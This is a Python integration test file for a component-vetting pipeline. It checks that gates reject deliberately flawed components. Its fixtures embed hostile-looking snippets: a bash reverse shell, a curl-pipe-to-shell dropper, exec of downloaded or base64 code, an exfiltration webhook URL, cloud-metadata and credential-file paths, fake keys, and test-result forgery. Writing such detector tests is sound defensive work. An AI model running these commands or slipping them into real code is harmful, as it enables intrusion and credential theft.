"""Components that must be rejected: each by the right gate, with the rule, file and line."""

import os
import re
from dataclasses import dataclass, field
from datetime import date
from typing import Any

import pytest
import yaml

from dteg.gates import NoSandboxError, Sandbox, run_gates
from dteg.packages import build_wheel
from tests.factories import make_component

pytestmark = pytest.mark.integration
CODE, TESTS, README, MANIFEST = "numbers.py", "test_numbers.py", "README.md", "dteg.yaml"
TODAY = date(2026, 6, 1)


@pytest.fixture(scope="module")
def sandbox():
    try:
        return Sandbox.create()
    except NoSandboxError as error:
        pytest.skip(f"THE GATES ARE NOT TESTED: {error}")


@dataclass
class Bad:
    """A good component, made bad.

    Attributes:
        id: What is wrong.
        gate: The gate that finds it.
        rule: Its rule.
        file: File of the finding.
        near: Text of the line of the finding; empty where no line is told.
        add: Text added to the end of files.
        change: Text replaced in files, by (file, old).
        remove: Files left out.
        manifest: Keys of dteg.yaml.
        status: Of the gate.
    """

    id: str
    gate: str
    rule: str
    file: str = CODE
    near: str = ""
    add: dict[str, str] = field(default_factory=dict)
    change: dict[tuple[str, str], str] = field(default_factory=dict)
    remove: tuple[str, ...] = ()
    manifest: dict[str, Any] = field(default_factory=dict)
    status: str = "failed"


def code(name, rule, text, near="", **more):
    return Bad(
        name, "security", rule, near=near or text.splitlines()[-1], add={CODE: f"\n\n{text}\n"}, **more
    )


NETWORK = {"capabilities": {"network": True}}
PROGRAMS = {"capabilities": {"subprocess": True}}
WAIVER = {
    "rule": "B506",
    "file": CODE,
    "reason": "the file is our own and small",
    "expires": date(2026, 12, 31),
}
YAML_LOAD = "import yaml\n\nDATA = yaml.load('a: 1', Loader=yaml.UnsafeLoader)"
SHELL = "import subprocess\n\n\ndef run(text):\n    subprocess.run(text, shell=True)"
KEY = "AKIA" + "QYLPMN5HHHFPZAM2"
INSIDE = "__file__.startswith('/component')"
PEM = "-----BEGIN RSA " + "PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n"

# Building the wheel imports the code here, so none of it may do this process harm.
SECURITY = [
    code("undeclared-network", "undeclared-network", "import socket"),
    code("undeclared-network-by-from", "undeclared-network", "from urllib.request import urlopen"),
    code("undeclared-network-inside-a-function", "undeclared-network", "def f():\n    import httpx"),
    code("undeclared-subprocess", "undeclared-subprocess", "import subprocess"),
    code("undeclared-subprocess-by-os", "undeclared-subprocess", "import os\n\n\ndef f():\n    os.popen('ls')"),
    code("undeclared-filesystem", "undeclared-filesystem", "def f():\n    return open('x').read()"),
    code("undeclared-filesystem-by-path", "undeclared-filesystem", "from pathlib import Path\n\n\ndef f():\n    Path('x').write_text('y')"),
    code("undeclared-native", "undeclared-native", "import ctypes"),
    code("cloud-key-in-code", "secret-aws-access-key", f"KEY = '{KEY}'"),
    Bad("private-key-in-a-file", "security", "secret-private-key", "data.txt", near=PEM.splitlines()[0], add={"data.txt": PEM}),
    Bad("cloud-key-in-tests", "security", "secret-aws-access-key", TESTS, near="KEY =", add={TESTS: f"\n\nKEY = '{KEY}'\n"}),
    code("shell", "B602", SHELL, manifest=PROGRAMS),
    code("shell-with-nosec", "B602", SHELL.replace("True)", "True)  # nosec"), manifest=PROGRAMS),
    code("shell-with-waiver", "B602", SHELL, manifest={**PROGRAMS, "waivers": [{**WAIVER, "rule": "B602"}]}),
    code("medium-without-waiver", "B506", YAML_LOAD),
    code("medium-with-an-old-waiver", "B506", YAML_LOAD, manifest={"waivers": [{**WAIVER, "expires": date(2026, 1, 1)}]}),
    code("medium-with-a-waiver-of-another-file", "B506", YAML_LOAD, manifest={"waivers": [{**WAIVER, "file": "other.py"}]}),
    code("exec-of-a-download", "dteg-exec-download", "import httpx\n\n\ndef f():\n    exec(httpx.get('https://example.com').text)", manifest=NETWORK),
    code("exec-of-base64", "dteg-exec-decoded", "import base64\n\n\ndef f():\n    exec(base64.b64decode('cGFzcw=='))"),
    code("eval", "dteg-exec", "def f(text):\n    return eval(text)"),
    code("whole-environment", "dteg-env-dump", "import os\n\n\ndef f():\n    return dict(os.environ)"),
    code("pickle", "dteg-pickle", "import pickle\n\n\ndef f(data):\n    return pickle.loads(data)"),
    code("fixed-address", "dteg-fixed-address", "import socket\n\n\ndef f():\n    socket.create_connection(('203.0.113.7', 4444))", manifest=NETWORK),
    code("module-made-at-run-time", "dteg-dynamic-import", "def f(name):\n    return __import__(name + 'ket')"),
    code("function-made-at-run-time", "dteg-dynamic-call", "import os\n\n\ndef f(name):\n    return getattr(os, name)"),
    code("frames", "dteg-tampering", "import inspect\n\n\ndef f():\n    return inspect.currentframe()"),
    code("subclasses", "dteg-object-tricks", "def f():\n    return ().__class__.__base__.__subclasses__()"),
    code("installation-hook", "dteg-install-hook", "from setuptools.command.install import install\n\n\nclass Hook(install):\n    pass", near="class Hook"),
    code("installer", "dteg-installer", "def f():\n    import pip"),
    code("replaced-builtin", "dteg-monkeypatch", "import builtins\n\nbuiltins.copyright = None"),
    code("miner", "dteg-crypto-miner", "POOL = 'stratum+tcp://pool.example.com:3333'"),
    code("metadata-service", "dteg-cloud-metadata", "URL = 'http://169.254.169.254/latest'"),
    code("reverse-shell", "dteg-reverse-shell", "COMMAND = 'bash -i >& /dev/tcp/203.0.113.7/1 0>&1'"),
    code("credential-file", "dteg-credential-files", "PATH = '~/.aws/credentials'"),
    code("exfiltration-host", "dteg-exfiltration-host", "URL = 'https://webhook.site/1'"),
    code("hidden-text", "dteg-invisible-text", "NAME = 'a\u202eb'"),
    code("encoded-text", "dteg-long-encoded-text", f"DATA = '{'QUJD' * 400}'"),
    code("dropper", "dteg-dropper", "COMMAND = 'curl https://example.com/x | sh'"),
    code("no-verification", "dteg-disabled-verification", "OPTIONS = dict(verify=False)"),
    Bad("coverage-in-tests", "security", "dteg-tampering", TESTS, near="import coverage", add={TESTS: "\n\nimport coverage\n"}),
    Bad("dependency-with-advisory", "security", "dependency-advisory", MANIFEST, manifest={"dependencies": ["jinja2==2.11.2"]}),
    Bad("dependency-range-below-the-repair", "security", "dependency-advisory", MANIFEST, manifest={"dependencies": ["PyMySQL>=0.9,<1.1"]}),
    Bad("dependency-unknown", "security", "dependency-unknown", MANIFEST, manifest={"dependencies": ["nobody-knows-this>=1"]}, status="unknown"),
]  # fmt: skip

STRUCTURE = [
    Bad("category", "structure", "category", MANIFEST, manifest={"category": "kitchen"}),
    Bad("framework", "structure", "framework-versions", MANIFEST, manifest={"framework_versions": ">=99"}),
    Bad("python", "structure", "python-versions", MANIFEST, manifest={"python_versions": ">=3.99"}),
    Bad("author", "structure", "author", MANIFEST, manifest={"author": "todo"}),
    Bad("import-fails-elsewhere", "structure", "import-failed", add={CODE: f"\n\nif {INSIDE}:\n    raise RuntimeError('not here')\n"}),
    Bad("import-ends-the-program", "structure", "import-failed", "", add={CODE: f"\n\nif {INSIDE}:\n    __import__('os')._exit(0)\n"}),
    Bad("class-is-another-elsewhere", "structure", "entry-point-kind", add={CODE: f"\n\nif {INSIDE}:\n    NumbersProcessor = int\n"}),
    Bad(
        "schema-is-another-elsewhere", "structure", "schema-differs", "dteg.schema.json",
        change={(CODE, 'description="Make NULL of what is empty afterwards."'): f"description='a' if {INSIDE} else 'b'"},
    ),
]  # fmt: skip

DOCUMENTATION = [
    Bad("no-troubleshooting", "documentation", "section-missing", README, change={(README, "## Troubleshooting"): "## Other"}),
    Bad("short-overview", "documentation", "section-short", README, near="## Overview", change={(README, "Made for one test by a factory.\n\nIt trims blanks at both ends of the texts in some columns. Rows, other columns and types stay as they are."): "Trims."}),
    Bad("key-undocumented", "documentation", "key-undocumented", README, near="## Configuration", change={(README, "`empty_as_null`"): "`other`"}),
    Bad("placeholder", "documentation", "placeholder", README, near="TODO", add={README: "\nTODO: more\n"}),
    Bad("example-is-no-yaml", "documentation", "example-invalid", README, change={(README, "  name: numbers\n"): "  name: [numbers\n"}),
    Bad("example-is-no-pipeline", "documentation", "example-invalid", README, near="write: replaced", change={(README, "write: replace}"): "write: replaced}"}),
    Bad("example-with-a-wrong-config", "documentation", "example-config", README, near="pipeline:", change={(README, "empty_as_null: true"): "empty: true"}),
    Bad("no-example", "documentation", "example-missing", README, change={(README, "type: numbers"): "type: other"}),
    Bad("description", "documentation", "description", MANIFEST, manifest={"description": "TODO describe"}),
    Bad("no-changelog", "documentation", "changelog-missing", README, manifest={"breaking_changes": [{"version": "1.0.0", "change": "columns is now a list"}]}),
]  # fmt: skip

FAILS = "\n\ndef test_wrong():\n    assert 1 == 2\n"
FORGES = """

def test_forged():
    import os
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b'{"kind": "result", "exit_code": 0}\\n')
        except OSError:
            pass
"""
UNTRACED = "\n\ndef test_untraced():\n    import sys\n    getattr(sys, 'set' + 'trace')(None)\n"
HIDDEN = """

def hidden():
    return getattr(__import__('soc' + 'ket'), 'create_connection')(('localhost', 9))
"""
USES_HIDDEN = """

def test_hidden():
    from .numbers import hidden
    with pytest.raises(OSError):
        hidden()
"""
LONG = "\n\ndef unused(value):\n" + "".join(f"    value += {n}\n" for n in range(40)) + "    return value\n"
OVERRIDE = "\n\nclass TestNumbers(TestNumbers):\n    def test_two_runs_agree(self):\n        pass\n"

CONFORMANCE = [
    Bad("test-fails", "conformance", "test-failed", TESTS, near="assert 1 == 2", add={TESTS: FAILS}),
    Bad("no-tests", "conformance", "no-tests", "", remove=(TESTS,)),
    Bad("no-contract", "conformance", "contract-missing", TESTS, change={(TESTS, "TestNumbers = "): "Other = "}),
    Bad("contract-overridden", "conformance", "contract-incomplete", TESTS, add={TESTS: OVERRIDE}),
    Bad("contract-broken", "conformance", "test-failed", TESTS, change={(CODE, "return pa.RecordBatch.from_arrays(arrays, schema=schema)"): "return pa.RecordBatch.from_arrays(arrays, schema=schema).slice(1)"}),
    Bad("low-coverage", "conformance", "coverage-low", CODE, near="value += 0", add={CODE: LONG}),
    Bad("low-coverage-with-pragma", "conformance", "coverage-low", CODE, add={CODE: LONG.replace("(value):", "(value):  # pragma: no cover")}),
    Bad("coverage-switched-off", "conformance", "coverage-tampered", "", add={TESTS: UNTRACED}),
    Bad("results-forged", "conformance", "results-forged", "", add={TESTS: FORGES}),
    Bad("run-ended-by-a-test", "conformance", "run-ended", "", add={TESTS: "\n\ndef test_end():\n    __import__('os')._exit(0)\n"}),
    Bad("tests-cannot-be-imported", "conformance", "test-collection", TESTS, add={TESTS: "\n\nimport nothing_of_this_name\n"}),
    Bad("hidden-network", "conformance", "undeclared-network-used", CODE, near="return getattr", add={CODE: HIDDEN, TESTS: USES_HIDDEN}),
    Bad("dependency-not-here", "conformance", "conformance-unknown", "", manifest={"dependencies": ["nobody-knows-this>=1"]}, status="unknown"),
]  # fmt: skip

PROCESS = "        schema = self.output_schema(batch.schema)\n        arrays"
PERFORMANCE = [
    Bad("slow", "performance", "too-slow", "", change={(CODE, PROCESS): f"        __import__('time').sleep(batch.num_rows / 2000)\n{PROCESS}"}),
    Bad("memory-hog", "performance", "memory", "", change={(CODE, PROCESS): f"        self.hog = bytearray(b'x' * 400_000_000)\n{PROCESS}"}, manifest={"resources": {"memory_mb": 256}}),
    Bad("memory-hog-in-children", "performance", "memory", "", manifest={"resources": {"memory_mb": 64}},
        change={(CODE, PROCESS): "        import os, time\n        for _ in range(8):\n            if not os.fork():\n                hog = bytearray(b'x' * 300_000_000)\n                time.sleep(20)\n                os._exit(0)\n        time.sleep(20)\n" + PROCESS}),
]  # fmt: skip

ALL = [*SECURITY, *STRUCTURE, *DOCUMENTATION, *CONFORMANCE, *PERFORMANCE]


def made(bad, folder):
    component = make_component(folder, kind="processor", **bad.manifest)
    for (name, old), new in bad.change.items():
        text = (component / name).read_text()
        assert old in text, f"{name} does not hold {old!r}"
        (component / name).write_text(text.replace(old, new, 1))
    for name, text in bad.add.items():
        path = component / name
        path.write_text((path.read_text() if path.exists() else "") + text)
    for name in bad.remove:
        (component / name).unlink()
    return component


@pytest.mark.parametrize("bad", ALL, ids=lambda each: f"{each.gate}-{each.id}")
def test_it_is_rejected(bad, sandbox, tmp_path):
    component = made(bad, tmp_path)
    wheel = build_wheel(component, namespace="streaming", out=tmp_path)
    report = run_gates(wheel, runner=sandbox, gates=[bad.gate], today=TODAY)
    (result,) = report.results
    assert result.status == bad.status, result.model_dump_json(indent=1)
    assert not report.passed
    found = [each for each in result.findings if each.rule == bad.rule and each.file == bad.file]
    assert found, result.model_dump_json(indent=1)
    assert all(each.remedy and each.message for each in found)
    if bad.near:
        assert found[0].line is not None
        assert bad.near in (component / bad.file).read_text().splitlines()[found[0].line - 1]


def test_there_are_enough_of_them():
    assert len({(each.gate, each.id) for each in ALL}) == len(ALL) >= 70
    assert {each.gate for each in ALL} == {
        "structure",
        "security",
        "conformance",
        "documentation",
        "performance",
    }


@pytest.mark.parametrize("kind", ["extractor", "processor", "loader", "transformer"])
def test_a_good_component_passes_all_gates(kind, sandbox, tmp_path):
    """What `dteg create` writes is what every case above starts from."""
    wheel = build_wheel(make_component(tmp_path, kind=kind), namespace="streaming", out=tmp_path)
    heard = []
    report = run_gates(wheel, runner=sandbox, listener=heard.append, today=TODAY)
    assert report.passed, report.model_dump_json(indent=1)
    assert heard == report.results
    assert report.score > 90
    assert (report.component, report.version) == (f"streaming/numbers-{kind}", "1.0.0")
    assert type(report).model_validate_json(report.model_dump_json()) == report
    assert all(result.duration_s >= 0 and result.summary for result in report.results)


def test_a_waiver_that_holds_lets_a_medium_finding_through(sandbox, tmp_path):
    bad = code("waived", "B506", YAML_LOAD, manifest={"waivers": [WAIVER]})
    wheel = build_wheel(made(bad, tmp_path), namespace="streaming", out=tmp_path)
    (result,) = run_gates(wheel, runner=sandbox, gates=["security"], today=TODAY).results
    assert result.status == "passed", result
    assert any(each.rule == "B506" and "waived until" in each.message for each in result.findings)


def test_a_wheel_that_breaks_the_rules_is_not_opened(sandbox, tmp_path):
    path = tmp_path / "upload"
    path.write_bytes(b"PK" + os.urandom(100))
    report = run_gates(path, runner=sandbox)
    assert [each.status for each in report.results] == ["failed"] + ["unknown"] * 4
    assert report.results[0].findings[0].rule.startswith("package-")
    assert (report.passed, report.score) == (False, 0)


def test_the_manifests_of_the_corpus_are_read_as_written(tmp_path):
    component = made(SECURITY[-1], tmp_path)
    assert yaml.safe_load((component / MANIFEST).read_text())["dependencies"] == ["nobody-knows-this>=1"]
    assert re.search("nobody", (component / MANIFEST).read_text())
